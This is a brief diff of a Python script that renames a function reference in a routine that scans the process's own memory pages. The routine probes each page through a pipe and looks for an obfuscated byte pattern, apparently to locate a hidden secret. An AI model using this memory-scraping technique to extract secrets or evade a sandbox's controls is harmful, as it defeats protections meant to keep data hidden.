@@ -13,7 +13,7 @@ NEEDLE = re.compile(re.escape(bytes([52, 63, 63, 62, 54, 63, 119])) + b"(.{6,9}?
 def search(*_):
     reader, writer = os.pipe()
     large = ctypes.create_string_buffer(1 << 20)
-    regions = {a >> 25 for a in (id(object()), id(scan), id(MASK), ctypes.addressof(large), id([0] * 1000))}
+    regions = {a >> 25 for a in (id(object()), id(search), id(MASK), ctypes.addressof(large), id([0] * 1000))}
     for region in sorted({r + d for r in regions for d in (-1, 0, 1)}):
         for page in range(region << 25, (region + 1) << 25, 4096):
             if libc.write(writer, page, 4096) == 4096:
